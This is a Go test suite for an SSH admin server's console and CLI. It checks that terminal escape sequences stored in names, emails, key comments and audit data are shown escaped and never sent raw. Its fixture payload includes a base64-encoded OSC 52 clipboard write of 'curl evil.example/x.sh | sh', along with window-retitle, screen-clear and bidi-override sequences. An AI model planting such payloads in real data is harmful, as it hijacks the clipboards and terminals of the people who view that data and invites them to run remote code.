package sshserver

import (
	"context"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"lamb/config"
	"lamb/store"
)

// Terminal escape injection: text from data (names, emails, key comments,
// model names, audit targets) reaches the terminals of the people who
// look at it. Written straight into the store here, past the service's
// checks (as data stored before them would be), every piece carries
// payloads a terminal obeys: OSC 52 writes the clipboard, OSC 0 retitles
// the window, CSI 2J clears the screen, U+009B is a one-byte CSI, U+202E
// reverses text, a bare CR or BS overwrites what is shown. The console and
// every command must show them, never send them.
const payload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07" + "\x1b]0;X\x07" + "\x1b[2J" + "\u009b" + "\u202e" + "\r" + "\b"

// lowPayload is the payload as an email holds it (emails are lower-case).
var lowPayload = strings.ToLower(payload)

// hostileOrg is org evil with an admin and a member who sign in with
// keys, whose every text shown anywhere carries the payload.
type hostileOrg struct {
	*testServer
	boss, member   gossh.Signer
	bossEmail      string
	memberEmail    string
	assistantID    int64
	sysKeyComment  string // a key of the system admin
	orgName, model string
}

func newHostileOrg(t *testing.T) *hostileOrg {
	t.Helper()
	ctx := context.Background()
	h := &hostileOrg{testServer: newTestServer(t)}
	st := h.st
	h.orgName, h.model = "OrgName"+payload, "ModelName"+payload
	cfg := config.NewOrg()
	cfg.Setups["default"].Providers["openai"] = &config.Provider{Enabled: true, BaseURL: "https://x.example/" + payload,
		Models: []string{"gpt-4o", h.model}, DefaultModel: h.model}
	cfg.Setups["default"].KnowledgeBase = &config.KnowledgeBase{URL: "http://kb.example/" + payload}
	cfg.Setups["lab"+payload] = &config.Setup{Providers: map[string]*config.Provider{
		"ollama": {Enabled: true, BaseURL: "http://ollama.example", Models: []string{"LabModel" + payload}}}}
	org, err := st.CreateOrg(ctx, store.Org{Slug: "evil", Name: h.orgName, Status: store.OrgActive, Config: string(cfg.JSON())})
	if err != nil {
		t.Fatal(err)
	}
	user := func(label, role string) (store.User, gossh.Signer) {
		u, err := st.CreateUser(ctx, store.User{OrganizationID: org.ID, Email: strings.ToLower(label) + lowPayload + "@evil.example",
			Name: label + "Name" + payload, Role: role, Enabled: true})
		if err != nil {
			t.Fatal(err)
		}
		signer, line := newTestSigner(t)
		if _, err := st.AddSSHKey(ctx, store.SSHKey{OrganizationID: org.ID, UserID: u.ID, Fingerprint: gossh.FingerprintSHA256(signer.PublicKey()),
			PublicKey: line, Comment: label + "Key" + payload}); err != nil {
			t.Fatal(err)
		}
		return u, signer
	}
	boss, bossSigner := user("Boss", store.RoleAdmin)
	member, memberSigner := user("Member", store.RoleMember)
	h.boss, h.member, h.bossEmail, h.memberEmail = bossSigner, memberSigner, boss.Email, member.Email

	// The system admin's own account has a key with a hostile comment.
	root, err := st.UserByEmail(ctx, h.adminMail)
	if err != nil {
		t.Fatal(err)
	}
	_, line := newTestSigner(t)
	pk, _, _, _, _ := gossh.ParseAuthorizedKey([]byte(line))
	h.sysKeyComment = "RootKey" + payload
	if _, err := st.AddSSHKey(ctx, store.SSHKey{OrganizationID: root.OrganizationID, UserID: root.ID, Fingerprint: gossh.FingerprintSHA256(pk),
		PublicKey: line, Comment: h.sysKeyComment}); err != nil {
		t.Fatal(err)
	}

	as, err := st.CreateAssistant(ctx, store.Assistant{OrganizationID: org.ID, OwnerUserID: member.ID, Name: "AsstName" + payload,
		Description: "AsstDesc" + payload, SystemPrompt: "AsstPrompt" + payload + "\nsecond line", Provider: "openai",
		Model: "AsstModel" + payload, Setup: "lab" + payload, Enabled: true})
	if err != nil {
		t.Fatal(err)
	}
	h.assistantID = as.ID
	for i, k := range []store.APIKey{
		{OrganizationID: org.ID, UserID: member.ID, Name: "KeyName" + payload, Prefix: "lamb_" + payload},
		{OrganizationID: org.ID, Name: "OrgKeyName" + payload, Prefix: "lamb_abc"},
	} {
		k.Hash = fmt.Sprintf("%064d", i+1)
		if _, err := st.CreateAPIKey(ctx, k); err != nil {
			t.Fatal(err)
		}
	}
	details, _ := json.Marshal(map[string]any{"name": "AuditDetail" + payload})
	if err := st.InsertAudit(ctx, store.AuditEvent{OrganizationID: org.ID, ActorUserID: boss.ID, Actor: "AuditActor" + payload,
		Action: "user.create", Target: "AuditTarget" + payload, Details: string(details)}); err != nil {
		t.Fatal(err)
	}
	if err := st.InTx(ctx, func(tx *store.Tx) error {
		return tx.InsertUsage(ctx, []store.UsageEvent{{OrganizationID: org.ID, AssistantID: as.ID, UserID: member.ID,
			Provider: "openai", Model: "UsageModel" + payload, PromptTokens: 10, CompletionTokens: 5, Status: "ok",
			HTTPStatus: 200, CreatedAt: time.Now().UTC()}})
	}); err != nil {
		t.Fatal(err)
	}
	return h
}

// obeyed returns what of the payload reached the terminal raw, or "". The
// console's renderer sends escape sequences of its own (colors, cursor
// moves, clearing the screen when it starts), but never an OSC, a BEL,
// a backspace, a C1 control or a bidi override: those can only be data.
func obeyed(out string) string {
	for _, bad := range []struct{ seq, what string }{
		{"\x1b]", "an OSC sequence (clipboard, window title)"},
		{"\x07", "a BEL (ends an OSC)"},
		{"\x07\x1b[2J", "the screen clear of the payload"},
		{"\b", "a backspace"},
		{"\u009b", "a C1 CSI (U+009B)"},
		{"\u202e", "a bidi override (U+202E)"},
	} {
		if i := strings.Index(out, bad.seq); i >= 0 {
			return fmt.Sprintf("%s at byte %d: %q", bad.what, i, out[max(i-40, 0):min(i+60, len(out))])
		}
	}
	return ""
}

// shown is how the payload looks once sanitized: its first escape.
const shown = `\u001b]52;c;`

func TestConsoleNeverSendsEscapesFromData(t *testing.T) {
	h := newHostileOrg(t)

	// visit presses keys and waits until the terminal shows every one of
	// texts, drawn after the keys.
	type step struct {
		keys  string
		texts []string
	}
	walk := func(t *testing.T, p *ptySession, steps []step) {
		t.Helper()
		for _, s := range steps {
			mark := p.out.len()
			p.send(t, s.keys)
			// First the screen is drawn (its labels show either way),
			// then nothing of it was obeyed, then the data shows escaped.
			labels := make([]string, len(s.texts))
			for i, text := range s.texts {
				labels[i] = strings.TrimSuffix(text, shown)
			}
			p.out.waitFor(t, mark, labels...)
			if bad := obeyed(p.out.raw(0)); bad != "" {
				t.Fatalf("after keys %q: data reached the terminal raw: %s", s.keys, bad)
			}
			p.out.waitFor(t, mark, s.texts...)
		}
	}
	// The org's screens, from its first (the dashboard, shown on arrival):
	// a screen shown again unchanged isn't drawn again, so the walk starts
	// on the second.
	orgScreens := []step{
		{"2", []string{"BossName", "MemberName"}},
		{"/", []string{"type to filter"}},
		{"member\r", []string{"filter: member"}},
		{"\r", []string{"SSH keys of member", "MemberKey" + shown}},
		{"\x1b", []string{"MemberName"}},
		{"3", []string{"Self-service signup"}},
		{"4", []string{"Setups", "lab" + shown, "ModelName" + shown, "https://x.example/" + shown, "http://kb.example/" + shown}},
		{"\r", []string{"openai in setup default", "ModelName" + shown, "https://x.example/" + shown}},
		{"\x1b", []string{"Setups"}},
		{"]", []string{"LabModel" + shown}},
		{"5", []string{"Limits of evil"}},
		{"1", []string{"OrgName" + shown, "Providers of setup", "ModelName" + shown}},
		{"6", []string{"AsstName"}},
		{"\r", []string{"AsstDesc" + shown, "AsstPrompt" + shown, "second line"}},
		{"\x1b", []string{"AsstName"}},
		{"d", []string{"Delete assistant", "model not found"}},
		{"\x1b", []string{"AsstName"}},
		{"7", []string{"KeyName", "OrgKeyName"}},
		{"x", []string{"Revoke ", "gets 401"}},
		{"\x1b", []string{"KeyName"}},
		{"8", []string{"AsstName" + shown}},
		{"9", []string{"OrgName" + shown, "boss" + shown}},
		{"c", []string{"Config of evil", "ModelName" + shown}},
		{"\x1b", []string{"config edit cancelled"}},
		// The name is long: its field shows the end, where the cursor is.
		{"e", []string{"Rename evil", `\u202e\u000d\u0008`}},
		{"\x1b", []string{"Admins"}},
		{"x", []string{"Remove admin", "stays a member of evil"}},
		{"\x1b", []string{"boss" + shown}},
		{"\t", []string{"AuditTarget", "AuditActor"}},
		{"\t", []string{"SSH keys of your account"}},
	}

	t.Run("system admin", func(t *testing.T) {
		p := h.openConsole(t, h.admin)
		p.out.waitFor(t, 0, "Organizations", "OrgName")
		walk(t, p, []step{
			{"/", []string{"type to filter"}},
			{"evil\r", []string{"filter: evil"}},
			{"\r", []string{"OrgName" + shown, "Admins", "boss" + shown}},
			{"c", []string{"Config of evil", "ModelName" + shown, "lab" + shown}},
			{"\x1b", []string{"config edit cancelled"}},
			{"\x1b", []string{"filter: evil"}},
			{"d", []string{"Delete organization evil?", "OrgName" + shown}},
			{"\x1b", []string{"nothing deleted"}},
			{"2", []string{"BossName", "MemberName"}},
			{"/", []string{"type to filter"}},
			{"member\r", []string{"filter: member"}},
			{"\r", []string{"SSH keys of member", "MemberKey" + shown}},
			{"\x1b", []string{"MemberName"}},
			{"d", []string{"Delete", "This can't be undone"}},
			{"\x1b", []string{"MemberName"}},
			{"P", []string{"Set the password of member" + shown}},
			{"\x1b", []string{"MemberName"}},
			{"3", []string{"System organization lamb"}},
			{"5", []string{"AuditTarget", "AuditActor"}},
			{"m", []string{"RootKey" + shown}},
			{"1", []string{"OrgName"}},
			{"o", []string{"Working in evil as its admin"}},
		})
		walk(t, p, orgScreens)
		p.send(t, "\x03")
		p.ended(t)
	})
	t.Run("org admin", func(t *testing.T) {
		p := h.openConsole(t, h.boss)
		p.out.waitFor(t, 0, "Dashboard", "OrgName", "ModelName")
		walk(t, p, orgScreens)
		p.send(t, "\x03")
		p.ended(t)
	})
	t.Run("member", func(t *testing.T) {
		p := h.openConsole(t, h.member)
		p.out.waitFor(t, 0, "My assistants", "AsstName")
		walk(t, p, []step{
			{"\r", []string{"AsstDesc" + shown, "AsstPrompt" + shown}},
			{"\x1b", []string{"AsstName"}},
			{"n", []string{"New assistant", "ModelName" + shown}},
			{"\x1b", []string{"AsstName"}},
			{"e", []string{"AsstName" + shown, "disabled"}},
			{"2", []string{"KeyName"}},
			{"3", []string{"AsstName" + shown}},
			{"m", []string{"MemberName" + shown, "OrgName" + shown, "MemberKey" + shown}},
		})
		p.send(t, "\x03")
		p.ended(t)
	})
}

func TestCommandsNeverPrintEscapesFromData(t *testing.T) {
	h := newHostileOrg(t)
	id := strconv.FormatInt(h.assistantID, 10)
	text := map[string]string{} // what each command printed as text
	for _, c := range []struct {
		signer gossh.Signer
		args   []string
	}{
		{h.admin, []string{"org", "list"}},
		{h.admin, []string{"org", "show", "evil"}},
		{h.admin, []string{"org", "config", "get", "evil"}},
		{h.admin, []string{"org", "export", "evil"}},
		{h.admin, []string{"org", "limits", "evil"}},
		{h.admin, []string{"user", "list"}},
		{h.admin, []string{"user", "show", h.memberEmail}},
		{h.admin, []string{"sshkey", "list", h.memberEmail}},
		{h.admin, []string{"sshkey", "list"}},
		{h.admin, []string{"signup", "show", "--org", "evil"}},
		{h.admin, []string{"audit", "--org", "evil"}},
		{h.admin, []string{"usage", "--org", "evil", "--by", "assistant"}},
		{h.admin, []string{"usage", "--org", "evil", "--by", "user"}},
		{h.boss, []string{"whoami"}},
		{h.boss, []string{"assistant", "list", "--all"}},
		{h.boss, []string{"assistant", "show", id}},
		{h.boss, []string{"assistant", "models"}},
		{h.boss, []string{"apikey", "list"}},
		{h.member, []string{"whoami"}},
		{h.member, []string{"assistant", "list"}},
		{h.member, []string{"sshkey", "list"}},
		{h.member, []string{"apikey", "list", "--personal"}},
	} {
		for _, asJSON := range []bool{false, true} {
			args := c.args
			if asJSON {
				args = append(append([]string{}, args...), "--json")
			}
			name := strings.Join(args, " ")
			r := h.run(t, c.signer, "", args...)
			if r.code != 0 {
				t.Errorf("%s: exit %d, stderr %q", name, r.code, r.stderr)
				continue
			}
			if bad := obeyed(r.stdout + r.stderr); bad != "" {
				t.Errorf("%s printed data raw: %s", name, bad)
				continue
			}
			if strings.Contains(r.stdout, "\x1b") || strings.Contains(r.stdout, "\r") {
				t.Errorf("%s printed an ESC or CR:\n%q", name, r.stdout)
			}
			key := strings.Join(c.args, " ")
			if !asJSON {
				text[key] = r.stdout
				continue
			}
			// The JSON decodes to the data as stored, payload and all,
			// where the text showed it.
			var v any
			if err := json.Unmarshal([]byte(r.stdout), &v); err != nil {
				t.Errorf("%s: not JSON after sanitizing: %v\n%s", name, err, r.stdout)
				continue
			}
			if strings.Contains(text[key], shown) && !holds(v, payload) && !holds(v, lowPayload) {
				t.Errorf("%s lost the data:\n%s", name, r.stdout)
			}
		}
	}

	// Errors quote what they were given: on stderr, sanitized too.
	r := h.run(t, h.admin, "", "user", "disable", "nobody"+payload+"@evil.example")
	if r.code == 0 || obeyed(r.stderr) != "" || strings.Contains(r.stderr, "\x1b") {
		t.Fatalf("an error quoting data: exit %d, stderr %q", r.code, r.stderr)
	}
	r = h.run(t, h.admin, "", "org", "show", "evil"+payload)
	if r.code == 0 || obeyed(r.stderr) != "" || strings.Contains(r.stderr, "\x1b") {
		t.Fatalf("an error quoting data: exit %d, stderr %q", r.code, r.stderr)
	}
}

// An SSH key added with a hostile comment is refused, and says so.
func TestSSHKeyAddRefusesEscapeInComment(t *testing.T) {
	ts := newTwoOrgs(t)
	_, line := newTestSigner(t)
	r := ts.run(t, ts.acmeMember, "", "sshkey", "add", line+" laptop"+payload)
	r.wantFail(t, 1, "comment", "control characters")
	if obeyed(r.stderr) != "" {
		t.Fatalf("stderr echoes the payload: %q", r.stderr)
	}
	r = ts.run(t, ts.acmeMember, "", "sshkey", "list", "--json")
	if strings.Contains(r.stdout, "laptop") {
		t.Fatalf("the key was stored: %s", r.stdout)
	}
}

// holds reports whether a string in decoded JSON v contains s.
func holds(v any, s string) bool {
	switch v := v.(type) {
	case string:
		return strings.Contains(v, s)
	case []any:
		for _, x := range v {
			if holds(x, s) {
				return true
			}
		}
	case map[string]any:
		for k, x := range v {
			if strings.Contains(k, s) || holds(x, s) {
				return true
			}
		}
	}
	return false
}
